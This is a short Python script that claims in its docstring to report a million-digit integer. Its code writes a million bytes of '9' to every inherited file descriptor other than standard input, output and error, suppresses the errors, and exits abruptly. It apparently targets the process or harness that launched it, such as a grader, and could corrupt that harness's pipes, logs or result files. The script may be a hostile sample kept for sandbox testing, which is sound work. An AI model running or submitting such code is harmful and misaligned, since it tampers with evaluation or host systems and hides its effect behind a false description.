"""Reports an integer of a million digits."""

import os

for descriptor in map(int, os.listdir("/proc/self/fd")):
    if descriptor > 2:
        try:
            os.write(descriptor, b"9" * 1_000_000)
        except OSError:
            pass
os._exit(0)
